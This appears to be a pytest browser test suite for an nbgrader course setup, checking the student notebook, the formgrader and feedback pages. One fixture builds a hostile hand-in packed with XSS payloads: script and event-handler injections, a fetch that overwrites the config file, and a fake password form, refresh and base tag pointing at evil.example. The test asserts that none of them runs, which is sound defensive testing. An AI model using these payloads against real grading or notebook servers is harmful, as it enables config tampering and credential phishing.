"""What teacher and student see, in a real browser: the released notebook, the formgrader, the feedback page.

Needs Debian's Chromium, as tests/notebooks/test_browser.py. The screenshots stay in pytest's temporary folder.
"""

import json

import nbformat
import pytest

pytest.importorskip("nbgrader", reason="nbgrader is not installed (pip install -r requirements-teacher.txt)")

from hand_ins import NAME, cheat, grade_class, grade_id, perfect, table, work_of  # noqa: E402
from lab import IDLE, jupyterlab, needs_chromium  # noqa: E402
from nbgrader.api import Gradebook  # noqa: E402

pytestmark = needs_chromium

SUM_OF_POINTS = """points => points === [...document.querySelectorAll('input.score')]
    .reduce((sum, box) => sum + Number(box.placeholder || box.value), 0)"""


RUN = "document.title = 'PWNED'; fetch('/api/contents/nbgrader_config.py', {method: 'PUT', body: '{}'})"
HOSTILE = f"""Two layers see 5×5, and `a<b`.

<script>{RUN}</script><img src=x onerror="{RUN}"><svg/onload="{RUN}"><iframe srcdoc="<script>{RUN}</script>"></iframe>
<b onmouseover="{RUN}" onclick="{RUN}">move here</b> [click](javascript:{RUN.split(";")[0].replace(" ", "")})
<form action="http://evil.example"><input name=password placeholder="Your session ended: password"></form>
<meta http-equiv="refresh" content="1;url=http://evil.example/"><base href="http://evil.example/">
$\\href{{javascript:alert(2)}}{{x}}$ ![x](http://evil.example/track.png) ![y](attachment:y.svg)
"""


def hostile():
    """A notebook with scripts wherever a page could show them: texts, code, outputs, metadata, attachments."""
    notebook = work_of(0)[0]
    for cell in notebook.cells:
        if grade_id(cell) == "question":
            cell.source = HOSTILE
            cell.attachments = {"y.svg": {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>"}}
        elif cell.cell_type == "code":
            page = {"text/html": f"<script>{RUN}</script>", "application/javascript": RUN}
            cell.outputs = [nbformat.v4.new_output("display_data", page)]
        cell.metadata["collapsed"] = f"<script>{RUN}</script>"
    code = [f"%%javascript\n{RUN}", f'text = """\n</script></pre><script>{RUN}</script>\n"""']
    notebook.cells += [nbformat.v4.new_markdown_cell(HOSTILE), *map(nbformat.v4.new_code_cell, code)]
    notebook.cells.append(nbformat.v4.new_raw_cell(f"<script>{RUN}</script>"))
    notebook.metadata["title"] = f"</title><script>{RUN}</script>"
    notebook.metadata.kernelspec.display_name = f"<script>{RUN}</script>"
    return json.dumps(notebook)


@pytest.fixture(scope="module")
def graded(course, tmp_path_factory):
    """A course of three students, graded; and the address of a JupyterLab that serves its folder."""
    came_in = tmp_path_factory.mktemp("in")
    (came_in / "ann.ipynb").write_text(perfect(), encoding="utf-8")
    (came_in / "bob.ipynb").write_text(json.dumps(work_of(4)[0]), encoding="utf-8")
    (came_in / "cy.ipynb").write_text(cheat("an endless loop"), encoding="utf-8")
    (came_in / "eve.ipynb").write_text(hostile(), encoding="utf-8")
    done = grade_class(course, "--from", came_in)
    assert done.returncode == 0, done.stderr
    with jupyterlab(tmp_path_factory.mktemp("home"), course) as address:
        yield course, address


@pytest.fixture
def page(browser):
    page = browser.new_page(viewport={"width": 1280, "height": 1000})
    yield page
    page.close()


@pytest.mark.parametrize(
    ("k", "said"), [(0, "right: two windows overlap"), (5, "8 pixels, stride 2: expected")], ids=["right", "wrong"]
)
def test_a_student_runs_the_visible_tests(graded, page, tmp_path, k, said):
    course, address = graded
    file = course / f"mine{k}.ipynb"
    file.write_text(json.dumps(work_of(k)[0]), encoding="utf-8")
    page.goto(f"{address}lab/tree/{file.name}?reset&token=course")
    page.wait_for_selector(".jp-Notebook .jp-Cell", timeout=60_000)
    page.wait_for_function(IDLE, timeout=60_000)
    page.get_by_role("menuitem", name="Run", exact=True).click()
    page.get_by_text("Run All Cells", exact=True).click()
    printed = "said => [...document.querySelectorAll('.jp-OutputArea pre')].some(pre => pre.textContent.includes(said))"
    page.wait_for_function(printed, arg=said, polling=500, timeout=120_000)
    page.screenshot(path=tmp_path / "student.png")


def test_the_formgrader_shows_the_points_and_takes_a_grade_by_hand(graded, page, tmp_path):
    course, address = graded
    page.goto(f"{address}lab?token=course")  # logs in
    page.goto(f"{address}formgrader/gradebook/{NAME}/{NAME}")
    page.get_by_role("link", name="Submission #1").wait_for(timeout=60_000)
    page.screenshot(path=tmp_path / "gradebook.png", full_page=True)
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        submission = gradebook.find_submission_notebook(NAME, NAME, "ann").id
    page.goto(f"{address}formgrader/submissions/{submission}/")
    box = page.locator(".nbgrader_cell input.score").last
    box.wait_for(timeout=60_000)
    page.wait_for_function(SUM_OF_POINTS, arg=25, polling=500, timeout=60_000)  # the page fills its boxes one by one
    with page.expect_response(lambda answer: answer.request.method == "PUT" and answer.ok, timeout=60_000):
        box.fill("4")
        box.press("Tab")
    page.screenshot(path=tmp_path / "formgrader.png", full_page=True)
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        assert gradebook.find_grade("question", NAME, NAME, "ann").manual_score == 4
        assert gradebook.find_submission(NAME, "ann").score == 29
    grade_class(course)
    assert float(table(course)["ann"]["points"]) == 29


@pytest.mark.parametrize("where", ["formgrader", "feedback"])
def test_a_hostile_hand_in_runs_nothing(graded, page, tmp_path, where):
    course, address = graded
    before = (course / "nbgrader_config.py").read_bytes()
    dialogs, asked = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: asked.append((request.method, request.url)))
    if where == "formgrader":
        with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
            submission = gradebook.find_submission_notebook(NAME, NAME, "eve").id
        page.goto(f"{address}lab?token=course")  # logs in
        page.goto(f"{address}formgrader/submissions/{submission}/")
        page.locator(".nbgrader_cell input.score").last.wait_for(timeout=60_000)
    else:
        page.goto((course / "feedback" / "eve" / NAME / f"{NAME}.html").as_uri())
    page.get_by_text("Two layers see 5×5").first.wait_for(timeout=60_000)
    page.get_by_text("move here").first.hover()
    page.get_by_text("move here").first.click()
    page.wait_for_timeout(2500)  # for the refresh of a second
    page.screenshot(path=tmp_path / f"hostile_{where}.png", full_page=True)
    assert "PWNED" not in page.title()
    assert dialogs == []
    assert not [one for one in asked if "evil.example" in one[1] or (one[0] == "PUT" and "contents" in one[1])]
    assert page.locator("iframe, [name=password], [srcdoc], a[href^='javascript']").count() == 0
    assert (course / "nbgrader_config.py").read_bytes() == before
    assert page.locator("code", has_text="a< b").count() >= 1  # code stays readable


@pytest.mark.parametrize("student", ["ann", "bob", "cy", "eve"])
def test_the_feedback_page_opens(graded, page, tmp_path, student):
    course, _ = graded
    page.goto((course / "feedback" / student / NAME / f"{NAME}.html").as_uri())
    assert page.get_by_text("points, of 3:").count() == 3
    page.screenshot(path=tmp_path / f"feedback_{student}.png", full_page=True)
